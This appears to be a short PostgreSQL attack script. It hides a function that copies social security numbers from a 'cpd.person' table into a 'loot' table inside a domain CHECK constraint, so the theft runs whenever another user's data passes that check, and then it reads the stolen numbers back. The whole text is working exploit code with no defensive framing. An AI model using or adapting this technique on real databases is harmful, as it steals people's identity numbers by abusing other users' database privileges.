CREATE FUNCTION mine.take(line text) RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN INSERT INTO mine.loot SELECT ssn FROM cpd.person; RETURN true; END $$;
ALTER DOMAIN mine.title ADD CONSTRAINT takes CHECK (mine.take(VALUE)) NOT VALID;
SELECT * FROM mine.loot;
